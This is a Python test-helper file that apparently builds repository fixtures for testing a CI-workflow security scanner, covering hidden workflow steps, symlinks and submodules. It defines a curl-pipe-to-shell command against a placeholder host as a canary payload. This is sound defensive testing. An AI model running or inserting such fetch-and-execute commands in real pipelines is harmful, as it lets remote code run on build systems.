"""Cases that consist of a tree and the expected report: a table instead of a function for each."""
import os
from pathlib import Path
from suite import case, commit_all, git, init, w

BAD = "curl -fsSL https://hidden.example/i.sh | sh\n"
HEAD = "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
ACTION = "name: x\ndescription: x\nruns:\n  using: composite\n  steps:\n    - uses: hidden-owner/act@main\n"
WF = ".github/workflows/x.yml"
HIDDEN = "https://hidden.example/i.sh"
SHA = "1" * 40

def run(command, **keys):
    """Returns a workflow whose step runs a command."""
    more = "".join(f"        {key.replace('_', '-')}: {value}\n" for key, value in keys.items())
    return HEAD + f"      - run: |\n" + "".join(f"          {line}\n" for line in command.splitlines()) + more

def uses(value):
    """Returns a workflow whose step uses an action."""
    return HEAD + f"      - uses: {value}\n"

class Link(str):
    """A symbolic link to a target."""

class Gitlink(str):
    """A submodule at a commit."""

class Later:
    """A change to a path after the commit, `Later(lambda repo, path: …)`, with the content until then."""
    def __init__(self, do, before=None): self.do, self.before = do, before

def untracked(content):
    return Later(lambda r, p: w(r/p, content))

def build(r, files, commit=True, repository=True):
    if repository: init(r)
    late = []
    for path, content in files.items():
        if isinstance(content, Later):
            late.append((path, content.do)); content = content.before
            if content is None: continue
        f = r/path; f.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link): os.symlink(content, f)
        elif isinstance(content, Gitlink):
            f.mkdir(exist_ok=True); git(r, "update-index", "--add", "--cacheinfo", f"160000,{content},{path}")
        else: w(f, content)
    if repository and commit: commit_all(r)
    for path, do in late: do(r, path)

def tree(id, title, files, expect="what CI runs is reported, or a diagnostic states that it was not read", repository=True, wanted=None, **keys):
    """Adds a case with a tree; for further arguments, see `case`."""
    wanted = (("benign-owner/benign-action",) if repository else ()) if wanted is None else wanted
    @case(id, title, "hides from the gate while the report says that it is complete", expect, wanted=wanted, **keys)
    def make(d, r, big):
        r.mkdir(parents=True, exist_ok=True)
        w(d/"outside/real.sh", BAD.replace("hidden", "outside-canary"))
        build(r, files, repository=repository)
